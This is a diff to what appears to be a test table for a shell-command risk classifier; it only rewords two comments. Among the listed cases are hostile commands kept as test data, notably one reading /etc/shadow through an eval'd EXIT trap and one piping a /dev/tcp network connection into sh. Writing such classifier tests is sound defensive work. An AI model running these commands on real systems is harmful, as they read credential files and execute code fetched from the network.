@@ -166,7 +166,7 @@ TRAPS: tuple[tuple[str, Tier, str], ...] = (
     ("trap 'shift' DEBUG; set -- a -o; sort \"$1\" b", Tier.UNKNOWN, "hostile: drops an argument before each command"),
     ("trap 'if test -f a; then x=a; else read x; fi' DEBUG; x=a; sort \"$x\" b", Tier.UNKNOWN, "hostile: what it was, or more"),
     ("trap 'cd \"$y\"' DEBUG; cd src; ls > out", Tier.UNKNOWN, "hostile: another folder before each command"),
-    ("x=/etc/shadow; x=a.txt eval \"trap 'cat \\$x' EXIT\"", Tier.SECRET, "hostile: what was lent for `eval` is gone by then"),
+    ("x=/etc/shadow; x=a.txt eval \"trap 'cat \\$x' EXIT\"", Tier.SECRET, "hostile: what was set for `eval` is gone by then"),
     ("f() { local x=1; echo $x; }; trap f EXIT INT TERM; ls", Tier.READ, "its own variable is gone afterwards"),
 )
 
@@ -249,7 +249,7 @@ VALUES: tuple[tuple[str, Tier, str], ...] = (
     ("shopt -s dotglob; ls *", Tier.UNKNOWN, "hidden ones, too"),
     ("exec 3< a.txt; read -r x <&3; echo \"$x\"", Tier.READ, "a descriptor that the script opened"),
     ("ls 3>&1 1>&2 2>&3", Tier.READ, "swaps them"),
-    ("ls >&4", Tier.UNKNOWN, "one that somebody else opened"),
+    ("ls >&4", Tier.UNKNOWN, "one that another user opened"),
     ("ls 4>&4 >&4", Tier.UNKNOWN, "likewise"),
     ("exec 3<>/dev/tcp/example.org/80; sh <&3", Tier.UNKNOWN, "hostile: from a network"),
     ("sleep 1 & x=$!; wait $x", Tier.READ, "a number"),
